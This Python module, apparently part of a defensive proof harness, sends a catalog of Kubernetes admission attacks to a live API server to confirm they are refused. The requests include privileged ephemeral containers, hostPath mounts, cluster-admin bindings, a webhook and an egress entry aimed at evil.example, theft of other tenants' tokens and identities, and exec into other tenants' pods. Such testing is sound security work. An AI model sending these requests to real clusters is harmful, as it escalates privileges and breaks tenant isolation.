"""Attacks against admission: weakened pods and rules that somebody of a tenant wants changed, asked of the real API server."""

from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from typing import TYPE_CHECKING, Any, Final

from components.graph.model import Workload
from components.graph.names import SERVICE_LABEL
from sandbox.live.client import Cluster, Object
from sandbox.proof.attacks import apiserver
from sandbox.proof.attacks.apiserver import ATTACKERS, MERGE, STRATEGIC, Asked, account, ask, attempted, rights
from sandbox.proof.attacks.registry import Attempted, Planned, Switch
from sandbox.proof.attacks.weakened import AROUND_THE_PROXY, WEAKNESSES, Weakness
from sandbox.proof.refusals import stopped_by
from sandbox.proof.world import Pod, ProofError, World

if TYPE_CHECKING:
    from sandbox.proof.tokens import Tokens

FAMILY: Final = "admission"
TENANT, SERVICE, OTHER_TENANT = "bank-a", "bank-a/api-ms", "bank-b"
"""Whose pod is weakened, and whose account asks for what is another's."""
_TARGET, _TARGET_PATH = "bank-b/trans-ms", "/transfer"
_MAKES_PODS: Final = ({"apiGroups": [""], "resources": ["pods"], "verbs": ["create"]},)
_CORE, _RBAC, _ISTIO = "/api/v1", "/apis/rbac.authorization.k8s.io/v1", "/apis/security.istio.io/v1"
_NETWORKING, _TELEMETRY = "/apis/networking.istio.io/v1", "/apis/telemetry.istio.io/v1"
_START_SECONDS: Final = 40.0


def attacker(world: World) -> Workload:
    """The workload whose pod and whose account the attacker has."""
    return world.graph.workloads[SERVICE]


def home(world: World) -> Cluster:
    """The cluster that is asked."""
    return world.clusters[world.home_region]


def weakened(world: World, one: Weakness) -> Object:
    """The tenant's real pod, weakened."""
    pod = apiserver.live_copy(home(world), attacker(world), f"proof-{one.key}")
    one.weaken(pod)
    return pod


def judged(world: World, one: Weakness) -> Attempted:
    """The pod asked for by somebody who may make pods here, and kept by nobody.

    Raises:
        ProofError: an unchanged copy is refused too: then the refusal would say nothing of the weakness.
    """
    user, cluster = f"{ATTACKERS}editor-{one.key}", home(world)
    path = f"{_CORE}/namespaces/{TENANT}/pods"
    with rights(cluster, user, f"proof-{one.key}", TENANT, _MAKES_PODS):
        unchanged = ask(cluster, Asked("POST", path, apiserver.live_copy(cluster, attacker(world), f"proof-{one.key}")), user)
        if not unchanged.is_allowed:
            msg = f"the same pod, not weakened, is refused as well: {unchanged.words}"
            raise ProofError(msg)
        return attempted(ask(cluster, Asked("POST", path, weakened(world, one)), user), user)


def run_past_the_proxy(world: World, one: Weakness) -> Attempted:
    """The pod asked for; where nobody refuses it, it runs, and calls another tenant's service without the mesh's handshake."""
    seen = judged(world, one)
    if seen.stopped:
        return seen
    with running(world, weakened(world, one)) as pod:
        target = world.graph.workloads[_TARGET]
        callee = world.pod(pod.region, target)
        answer = world.call(pod, f"http://{callee.address}:{target.port}{_TARGET_PATH}", "-method=POST", "-body={}")
        by, evidence = stopped_by(world, callee, answer, path=_TARGET_PATH)
        return Attempted(stopped=not answer.is_allowed, by=by, evidence=evidence)


@contextmanager
def running(world: World, wanted: Object) -> Iterator[Pod]:
    """A pod that runs for this time: what the API server makes of it under an attacker's name.

    Raises:
        ProofError: it is refused, or does not come up.
    """
    cluster, user = home(world), f"{ATTACKERS}editor-runs"
    name = wanted["metadata"]["name"]
    path = f"{_CORE}/namespaces/{TENANT}/pods"
    # never ready, so that its Service sends nobody to it; and where its image is already
    wanted["spec"]["readinessGates"] = [{"conditionType": "zerotrust.dev/proof"}]
    node = world.pod(world.home_region, attacker(world)).node
    wanted["spec"]["nodeSelector"] = {**wanted["spec"].get("nodeSelector", {}), "kubernetes.io/hostname": node}
    with rights(cluster, user, f"{name}-runs", TENANT, _MAKES_PODS):
        made = ask(cluster, Asked("POST", path, wanted), user, kept=True)
    if not made.is_allowed:
        raise ProofError(made.words)
    try:
        found: list[Pod] = []

        def is_up() -> bool:
            found[:] = [pod for pod in world.pods(world.home_region, TENANT) if pod.name == name and pod.processes]
            return bool(found) and wanted["spec"]["containers"][0]["name"] in found[0].processes

        world.wait(f"{name} to run", is_up, _START_SECONDS)
        yield found[0]
    finally:
        cluster.request("DELETE", f"{path}/{name}", {"gracePeriodSeconds": 0})


def _at(kind: str, name: str = "", *, api: str = _CORE, namespace: str = TENANT) -> str:
    inside = f"/namespaces/{namespace}" if namespace else ""
    return f"{api}{inside}/{kind}" + (f"/{name}" if name else "")


def _named(api_version: str, kind: str, name: str = "proof", **fields: Any) -> Object:
    return {"apiVersion": api_version, "kind": kind, "metadata": {"name": name}, **fields}


def _ephemeral(world: World) -> Asked:
    image = apiserver.live_copy(home(world), attacker(world), "proof")["spec"]["containers"][0]["image"]
    added = {"name": "proof", "image": image, "securityContext": {"privileged": True}}
    name = world.pod(world.home_region, attacker(world)).name
    return Asked("PATCH", _at(f"pods/{name}/ephemeralcontainers"), {"spec": {"ephemeralContainers": [added]}}, STRATEGIC)


def _host_volume(_world: World) -> Asked:
    spec = {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/etc/kubernetes"}}
    return Asked("POST", _at("persistentvolumes", namespace=""), _named("v1", "PersistentVolume", spec=spec))


def _permissive(_world: World) -> Asked:
    wanted = _named("security.istio.io/v1", "PeerAuthentication", spec={"mtls": {"mode": "PERMISSIVE"}})
    return Asked("POST", _at("peerauthentications", api=_ISTIO), wanted)


def _anybody(_world: World) -> Asked:
    rule = {"from": [{"source": {"principals": ["*"]}}]}
    wanted = _named("security.istio.io/v1", "AuthorizationPolicy", spec={"action": "ALLOW", "rules": [rule]})
    return Asked("POST", _at("authorizationpolicies", api=_ISTIO), wanted)


def _plain_port(world: World) -> Asked:
    mine = attacker(world)
    spec = {"selector": {"matchLabels": {SERVICE_LABEL: mine.name}}, "portLevelMtls": {mine.port: {"mode": "DISABLE"}}}
    wanted = _named("security.istio.io/v1", "PeerAuthentication", spec=spec)
    return Asked("POST", _at("peerauthentications", api=_ISTIO), wanted)


def _no_condition(_world: World) -> Asked:
    wanted = _named("security.istio.io/v1", "AuthorizationPolicy", spec={"action": "ALLOW", "rules": [{}]})
    return Asked("POST", _at("authorizationpolicies", api=_ISTIO), wanted)


def _plain_calls(_world: World) -> Asked:
    spec = {"host": "*.cluster.local", "trafficPolicy": {"tls": {"mode": "DISABLE"}}}
    wanted = _named("networking.istio.io/v1", "DestinationRule", spec=spec)
    return Asked("POST", _at("destinationrules", api=_NETWORKING), wanted)


def _own_host(_world: World) -> Asked:
    ports = [{"number": 443, "name": "tls", "protocol": "TLS"}]
    spec = {"hosts": ["evil.example"], "location": "MESH_EXTERNAL", "resolution": "DNS", "ports": ports}
    return Asked("POST", _at("serviceentries", api=_NETWORKING), _named("networking.istio.io/v1", "ServiceEntry", spec=spec))


def _no_log(_world: World) -> Asked:
    wanted = _named("telemetry.istio.io/v1", "Telemetry", spec={"accessLogging": [{"disabled": True}]})
    return Asked("POST", _at("telemetries", api=_TELEMETRY), wanted)


def _unwatched(_world: World) -> Asked:
    match = [{"processes": ["*"], "excludedNamespaces": [TENANT]}]
    wanted = _named("config.gatekeeper.sh/v1alpha1", "Config", "config", spec={"match": match})
    return Asked("POST", _at("configs", api="/apis/config.gatekeeper.sh/v1alpha1", namespace="gatekeeper-system"), wanted)


def _foreign_certificate(_world: World) -> Asked:
    name = f"trans-ms.{OTHER_TENANT}.svc.cluster.local"
    spec = {"secretName": "proof", "commonName": name, "dnsNames": [name], "issuerRef": {"name": "stores"}}
    wanted = _named("cert-manager.io/v1", "Certificate", spec=spec)
    return Asked("POST", _at("certificates", api="/apis/cert-manager.io/v1"), wanted)


def _labels(_world: World) -> Asked:
    opened = {"pod-security.kubernetes.io/enforce": "privileged", "istio-injection": "disabled"}
    return Asked("PATCH", _at("namespaces", TENANT, namespace=""), {"metadata": {"labels": opened}}, MERGE)


def _stripping(_world: World) -> Asked:
    hook = {
        "name": "strip.evil.example",
        "clientConfig": {"url": "https://strip.evil.example/"},
        "failurePolicy": "Ignore",
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
        "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}],
    }
    wanted = _named("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", webhooks=[hook])
    return Asked("POST", "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations", wanted)


def _unguarded(_world: World) -> Asked:
    return Asked("DELETE", _at("privileged", api="/apis/constraints.gatekeeper.sh/v1beta1/noprivileged", namespace=""), {})


def _subject(world: World) -> Object:
    mine = attacker(world)
    return {"kind": "ServiceAccount", "name": mine.name, "namespace": mine.tenant}


def _cluster_admin(world: World) -> Asked:
    role = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
    wanted = _named("rbac.authorization.k8s.io/v1", "RoleBinding", roleRef=role, subjects=[_subject(world)])
    return Asked("POST", _at("rolebindings", api=_RBAC), wanted)


def _binder(_world: World) -> Asked:
    rule = {"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"], "verbs": ["bind", "escalate"]}
    wanted = _named("rbac.authorization.k8s.io/v1", "Role", rules=[rule])
    return Asked("POST", _at("roles", api=_RBAC), wanted)


def _aggregated(_world: World) -> Asked:
    rule = {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}
    wanted = _named("rbac.authorization.k8s.io/v1", "ClusterRole", rules=[rule])
    wanted["metadata"]["labels"] = {"rbac.authorization.k8s.io/aggregate-to-view": "true"}
    return Asked("POST", _at("clusterroles", api=_RBAC, namespace=""), wanted)


def _lasting_token(world: World) -> Asked:
    wanted = _named("v1", "Secret", type="kubernetes.io/service-account-token")
    wanted["metadata"]["annotations"] = {"kubernetes.io/service-account.name": attacker(world).name}
    return Asked("POST", _at("secrets"), wanted)


def _foreign_token(_world: World) -> Asked:
    wanted = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"audiences": ["vault"]}}
    return Asked("POST", _at("serviceaccounts/trans-ms/token", namespace=OTHER_TENANT), wanted)


def _foreign_identity(world: World) -> Asked:
    spec = {
        "className": "zerotrust",
        "spiffeIDTemplate": f"spiffe://{world.graph.trust_domain(world.home_region)}/ns/{OTHER_TENANT}/sa/api-ms",
        "podSelector": {"matchLabels": {SERVICE_LABEL: attacker(world).name}},
    }
    wanted = _named("spire.spiffe.io/v1alpha1", "ClusterSPIFFEID", spec=spec)
    return Asked("POST", _at("clusterspiffeids", api="/apis/spire.spiffe.io/v1alpha1", namespace=""), wanted)


def _decisions(_world: World) -> Asked:
    return Asked("PATCH", _at("configmaps", "opa-policy", namespace=OTHER_TENANT), {"data": {"authz.rego": ""}}, MERGE)


def _own_risk(_world: World) -> Asked:
    return Asked("PATCH", _at("configmaps", "workload-risk"), {"data": {"risk.json": "{}"}}, MERGE)


def _shell(world: World) -> Asked:
    name = world.pod(world.home_region, world.graph.workloads[_TARGET]).name
    return Asked("POST", _at(f"pods/{name}/exec?command=id&container=opa&stdout=true", namespace=OTHER_TENANT))


_ASKED: Final[tuple[tuple[str, str, tuple[str, ...], str, str, Callable[[World], Asked]], ...]] = (
    (
        "ephemeral-container",
        "a privileged container added to a pod that runs",
        ("T1610",),
        "A03",
        "violates PodSecurity",
        _ephemeral,
    ),
    ("host-volume", "a volume of the node's files, for a claim", ("T1611",), "A05", r"\[host-volumes\]", _host_volume),
    (
        "permissive-mtls",
        "mTLS made optional in the tenant's namespace",
        ("T1562.001", "T1557"),
        "A20",
        "floor-platform-objects",
        _permissive,
    ),
    ("any-principal", "everybody let in by an AuthorizationPolicy", ("T1562.001",), "A21", "floor-platform-objects", _anybody),
    (
        "plain-port",
        "mTLS switched off for one port of its own service",
        ("T1562.001", "T1557"),
        "A20",
        "floor-platform-objects",
        _plain_port,
    ),
    (
        "no-condition",
        "an AuthorizationPolicy without a condition",
        ("T1562.001",),
        "A21",
        "floor-platform-objects",
        _no_condition,
    ),
    ("plain-calls", "a DestinationRule that calls without mTLS", ("T1557",), "A20", "floor-platform-objects", _plain_calls),
    ("own-host", "a host of its own choice let out of the mesh", ("T1041",), "A28", "floor-platform-objects", _own_host),
    ("no-log", "access logs switched off", ("T1562.006",), "", "floor-platform-objects", _no_log),
    (
        "unwatched-namespace",
        "its namespace taken out of Gatekeeper's sight",
        ("T1562.001",),
        "A17",
        "floor-admission-configuration",
        _unwatched,
    ),
    (
        "foreign-certificate",
        "a certificate in the name of another tenant's service",
        ("T1649",),
        "",
        "floor-platform-objects",
        _foreign_certificate,
    ),
    (
        "namespace-labels",
        "Pod Security and injection switched off by a namespace's labels",
        ("T1562.001",),
        "A18",
        "floor-namespace-labels",
        _labels,
    ),
    (
        "stripping-webhook",
        "a webhook that rewrites pods and may fail",
        ("T1546",),
        "A16",
        "floor-admission-configuration",
        _stripping,
    ),
    (
        "constraint-removed",
        "a constraint of Gatekeeper removed",
        ("T1562.001",),
        "A17",
        "floor-admission-configuration",
        _unguarded,
    ),
    ("cluster-admin", "its own account bound to cluster-admin", ("T1098.006",), "A15", "floor-platform-objects", _cluster_admin),
    ("escalating-role", "a role that may bind and escalate", ("T1098.006",), "A15", "floor-platform-objects", _binder),
    (
        "aggregated-role",
        "rights slipped into everybody's view by aggregation",
        ("T1098.006",),
        "A15",
        "floor-platform-objects",
        _aggregated,
    ),
    ("lasting-token", "a token without an end", ("T1528",), "A11", "floor-account-tokens", _lasting_token),
    ("foreign-token", "a token of another tenant's account", ("T1528",), "A12", "floor-token-requests", _foreign_token),
    (
        "foreign-identity",
        "registered with SPIRE as another tenant's service",
        ("T1098",),
        "",
        "floor-platform-objects",
        _foreign_identity,
    ),
    ("decision-rules", "another tenant's decision rules replaced", ("T1562.001",), "", "floor-decision-data", _decisions),
    ("own-risk", "its own risk written down", ("T1562.001",), "", "floor-decision-data", _own_risk),
    ("shell", "a command in another tenant's pod", ("T1609",), "", "floor-interactive", _shell),
)
"""What a tenant's own account asks for: key, what it would be, techniques, case, what refuses behind RBAC, request."""


def _by_account(made: Callable[[World], Asked]) -> Callable[[World, "Tokens"], Attempted]:
    def make(world: World, _tokens: "Tokens") -> Attempted:
        user = account(attacker(world))
        return attempted(ask(home(world), made(world), user), user)

    return make


def _by_editor(one: Weakness, made: Callable[[World, Weakness], Attempted]) -> Callable[[World, "Tokens"], Attempted]:
    return lambda world, _tokens: made(world, one)


def _planned(one: Weakness, made: Callable[[World, Weakness], Attempted]) -> Planned:
    return Planned(
        key=f"{FAMILY}-{one.key}",
        title=f"a tenant's pod with {one.title}",
        family=FAMILY,
        techniques=one.techniques,
        case=one.case,
        expected=one.expected,
        single=one.single,
        control=one.control,
        behind=one.behind,
        make=_by_editor(one, made),
    )


ATTACKS: Final = (
    *(_planned(one, judged) for one in WEAKNESSES),
    *(_planned(one, run_past_the_proxy) for one in AROUND_THE_PROXY),
    *(
        Planned(
            key=f"{FAMILY}-{key}",
            title=title,
            family=FAMILY,
            techniques=techniques,
            case=case,
            expected="kubernetes-rbac",
            behind=behind,
            make=_by_account(made),
        )
        for key, title, techniques, case, behind, made in _ASKED
    ),
)


def _every_right(world: World) -> AbstractContextManager[None]:
    return apiserver.every_right(home(world), account(attacker(world)), "proof-every-right")


SWITCHES: Final = (
    Switch(layer="kubernetes-rbac", off=_every_right),
    Switch(layer="pod-security", off=lambda world: apiserver.without_pod_security(home(world), TENANT)),
    Switch(layer="admission-policy", off=lambda world: apiserver.without_floor(home(world))),
    Switch(layer="gatekeeper", off=lambda world: apiserver.without_gatekeeper(home(world))),
)
